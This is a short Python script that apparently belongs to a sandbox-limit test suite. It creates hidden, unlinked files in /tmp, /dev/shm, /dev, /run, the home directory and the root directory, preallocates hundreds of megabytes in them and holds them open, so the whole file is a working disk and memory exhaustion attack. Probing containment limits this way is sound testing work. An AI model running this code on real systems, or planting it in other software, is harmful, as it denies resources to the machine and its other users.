from attack import *

megabytes = 500


def fill():
    written = 0
    open_files = []
    for folder in dict.fromkeys((temporary, home, "/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", "/")):
        path = os.path.join(folder, f"bomb-{lures['token']}")
        try:
            file = os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL)
            os.unlink(path)
        except OSError:
            continue
        open_files.append(file)
        try:
            for part in range(15):
                os.posix_fallocate(file, part * 10 << 20, 10 << 20)
                written += 10 << 20
        except OSError:
            pass
    keep_holding()
    return written > 300 << 20 and f"{written >> 20} MB held"


attempt("held-memory", fill)
